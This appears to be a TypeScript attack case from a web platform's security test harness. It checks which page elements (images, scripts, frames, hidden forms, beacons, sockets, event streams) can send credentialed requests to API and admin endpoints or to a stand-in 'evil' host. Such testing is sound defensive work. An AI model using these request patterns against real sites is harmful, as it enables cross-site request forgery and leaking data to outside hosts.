import type { Attack } from './harness/attack.js';

export const attack: Attack = {
  title: 'what a page loads without fetch: images, scripts, frames, forms, beacons, sockets',
  from: 'page',
  script: async ({ platform, evil }, kit) => {
    const seen: unknown[] = [];
    const add = (name: string, tag: string, attributes: Record<string, string>) => {
      const element = document.createElement(tag);
      const loaded = new Promise<string>((resolve) => {
        element.onload = () => resolve('loaded');
        element.onerror = () => resolve('failed');
      });
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      document.body.append(element);
      return kit.within(1_500, loaded).then((outcome) => {
        seen.push({ name, outcome });
        element.remove();
      });
    };
    const loads: Promise<void>[] = [];
    for (const base of [`${platform}api/v1/`, `${platform}api/v1/admin/`, evil]) {
      const url = (name: string) => kit.named(name, `${base}x.js`);
      loads.push(
        add('img', 'img', { src: url('img') }),
        add('img by CORS', 'img', { src: url('img-cors'), crossorigin: 'use-credentials' }),
        add('script', 'script', { src: url('script') }),
        add('script by CORS', 'script', { src: url('script-cors'), crossorigin: '' }),
        add('module', 'script', { src: url('module'), type: 'module' }),
        add('style', 'link', { rel: 'stylesheet', href: url('style') }),
        add('video', 'video', { src: url('video') }),
        add('object', 'object', { data: url('object') }),
        add('frame', 'iframe', { src: url('frame') }),
      );
      navigator.sendBeacon(url('beacon'), 'x');
      for (const method of ['GET', 'POST']) {
        const frame = document.createElement('iframe');
        frame.name = `form-${method}-${base.length}`;
        const form = document.createElement('form');
        Object.assign(form, { method, action: url(`form-${method}`), target: frame.name });
        const input = document.createElement('input');
        Object.assign(input, { type: 'hidden', name: 'try', value: `form-${method}` });
        form.append(input);
        document.body.append(frame, form);
        form.submit();
        loads.push(
          kit.within(1_500, new Promise<never>(() => undefined)).then(() => {
            frame.remove();
            form.remove();
          }),
        );
      }
      for (const mode of ['no-cors', 'cors'] as const) {
        for (const [name, keepalive] of [
          [mode, false],
          [`${mode}-keepalive`, true],
        ] as const) {
          const call = kit.call(name, `${base}x`, { mode, keepalive });
          loads.push(call.then((each) => void seen.push(each)));
        }
      }
      const socket = new WebSocket(url('socket').replace('http', 'ws'));
      const events = new EventSource(kit.named('events', `${base}events`), {
        withCredentials: true,
      });
      loads.push(
        kit.within(1_500, new Promise<never>(() => undefined)).then(() => {
          socket.close();
          events.close();
        }),
      );
    }
    await Promise.all(loads);
    return seen;
  },
  gains: ({ api }) =>
    api
      .filter(({ caller, query }) => caller !== undefined && !/try=(cors|events)/.test(query))
      .map(({ query }) => `called by ${query}`),
  fromWeak: ['called by try=img', 'called by try=script', 'called by try=no-cors'],
};
